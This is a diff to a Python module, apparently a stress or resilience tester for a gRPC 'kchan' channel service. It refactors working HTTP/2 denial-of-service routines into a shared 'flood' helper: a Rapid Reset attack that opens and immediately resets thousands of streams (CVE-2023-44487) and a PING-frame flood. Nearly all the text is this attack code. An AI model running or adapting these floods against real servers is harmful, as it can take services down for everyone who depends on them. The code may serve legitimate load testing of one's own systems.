@@ -4,12 +4,13 @@
 from __future__ import annotations
 
 import contextlib
+import itertools
 import os
 import socket
 import ssl
 import struct
 import time
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterable, Iterator
 
 Address = tuple[str, int]
 
@@ -52,11 +53,12 @@ def connect(address: Address) -> socket.socket:
 
 def drain(connection: socket.socket) -> None:
     """Reads what is there, so that the other side can go on writing."""
+    patience = connection.gettimeout()
     connection.setblocking(False)
     with contextlib.suppress(BlockingIOError, ConnectionError):
         while connection.recv(1 << 16):
             pass
-    connection.setblocking(True)
+    connection.settimeout(patience)
 
 
 def until(seconds: float) -> Iterator[None]:
@@ -65,34 +67,39 @@ def until(seconds: float) -> Iterator[None]:
         yield
 
 
+def flood(address: Address, seconds: float, parts: Callable[[], Iterable[bytes]]) -> int:
+    """Sends one part after the other, on new connections as each ends. How many parts."""
+    count = 0
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        with contextlib.suppress(OSError), connect(address) as connection:
+            for part in parts():
+                if time.monotonic() >= end:
+                    break
+                connection.sendall(part)
+                drain(connection)
+                count += 1
+    return count
+
+
 def rapid_reset(address: Address, seconds: float) -> int:
     """Opens calls and resets each at once (CVE-2023-44487). How many."""
     headers = request_headers("/kchan.v1.ChannelService/Subscribe")
-    count = 0
-    for _ in until(seconds):
-        with contextlib.suppress(OSError), connect(address) as connection:
-            for stream in range(1, 20_000, 200):
-                calls = b"".join(
-                    frame(HEADERS, END_HEADERS, each, headers)
-                    + frame(RST_STREAM, 0, each, struct.pack(">I", 8))
-                    for each in range(stream, stream + 200, 2)
-                )
-                connection.sendall(calls)
-                drain(connection)
-                count += 100
-    return count
+
+    def calls() -> Iterator[bytes]:
+        for stream in range(1, 20_000, 200):
+            yield b"".join(
+                frame(HEADERS, END_HEADERS, each, headers)
+                + frame(RST_STREAM, 0, each, struct.pack(">I", 8))
+                for each in range(stream, stream + 200, 2)
+            )
+
+    return 100 * flood(address, seconds, calls)
 
 
 def ping_flood(address: Address, seconds: float) -> int:
-    count = 0
     pings = frame(PING, 0, 0, bytes(8)) * 1000
-    for _ in until(seconds):
-        with contextlib.suppress(OSError), connect(address) as connection:
-            for _ in range(100):
-                connection.sendall(pings)
-                drain(connection)
-                count += 1000
-    return count
+    return 1000 * flood(address, seconds, lambda: itertools.repeat(pings, 100))
 
 
 def garbage(address: Address, seconds: float) -> int:
